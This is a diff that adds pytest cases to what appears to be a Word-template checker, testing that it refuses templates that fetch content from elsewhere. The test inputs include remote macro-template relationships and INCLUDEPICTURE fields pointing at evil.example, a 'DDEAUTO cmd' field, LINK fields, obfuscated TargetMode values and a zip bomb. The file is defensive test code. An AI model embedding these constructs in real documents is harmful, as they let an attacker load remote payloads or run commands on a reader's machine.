@@ -290,6 +290,72 @@ def test_what_would_be_fetched_from_elsewhere_is_refused(template: bytes) -> Non
     check_template(changed(template, {rels: lambda xml: xml.replace(b"</Relationships>", link)}), sample().as_data())
 
 
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+HEAD = (
+    '<?xml version="1.0" encoding="{}"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+)
+
+
+def relationship(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
+    """A part of relationships in which one leads out."""
+    one = f'<Relationship Id="rIdX" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+    return (HEAD.format(encoding) + one).encode(encoding)
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        relationship("attachedTemplate", "http://evil.example/t.dotm"),
+        relationship("attachedTemplate", "http://evil.example/relationships/hyperlink"),
+        relationship("attachedTemplate", "http://evil.example/t.dotm", "&#69;xternal"),
+        relationship("attachedTemplate", "http://evil.example/t.dotm", encoding="utf-16"),
+        relationship("image", "http://evil.example/a.png", "Internal"),
+        relationship("aFChunk", "chunk.html", "Internal"),
+        b"<Relationships",
+        b"<!DOCTYPE a [<!ENTITY e 'External'>]><a/>",
+    ],
+    ids=["plainly", "named like a link", "by its number", "in UTF-16", "inside", "a chunk", "broken", "entities"],
+)
+def test_a_relationship_that_leads_out_is_found_however_it_is_written(template: bytes, part: bytes) -> None:
+    with pytest.raises(NotFilled, match="fetches something from elsewhere"):
+        check_template(changed(template, {}, {"word/_rels/settings.xml.rels": part}), sample().as_data())
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        '<w:r><w:instrText>INCLUDEPICTURE "http://evil.example/p.png" \\d</w:instrText></w:r>',
+        "<w:r><w:instrText> inc</w:instrText></w:r><w:r><w:instrText>ludetext x</w:instrText></w:r>",
+        "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
+        (
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>LINK Excel.Sheet x</w:instrText></w:r>'
+        ),
+        "{{ '<w:r><w:instrText>LINK x</w:instrText></w:r>'|safe }}",
+    ],
+)
+def test_a_field_that_fetches_is_found_in_the_template_or_in_what_it_writes(template: bytes, words: str) -> None:
+    before, after = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
+    field = f"<w:p>{before}{words}{after}</w:p><w:sectPr".encode()
+    own = changed(template, {"word/document.xml": lambda xml: xml.replace(b"<w:sectPr", field, 1)})
+    with pytest.raises(NotFilled, match="fetches something from elsewhere"):
+        check_template(own, sample().as_data())
+
+
+def test_a_link_and_a_number_of_the_page_fetch_nothing(template: bytes) -> None:
+    field = b'<w:p><w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="HYPERLINK x"/></w:p><w:sectPr'
+    link = relationship("hyperlink", "https://example.com/quy-che")
+    check_template(
+        changed(
+            template,
+            {"word/document.xml": lambda xml: xml.replace(b"<w:sectPr", field, 1)},
+            {"word/_rels/fontTable.xml.rels": link},
+        ),
+        sample().as_data(),
+    )
+
+
 def test_archives_that_grow_too_large_are_refused(template: bytes) -> None:
     bomb = changed(template, {}, {"word/media/a.bin": b"\0" * (40 * 2**20)})
     assert len(bomb) < 2**20
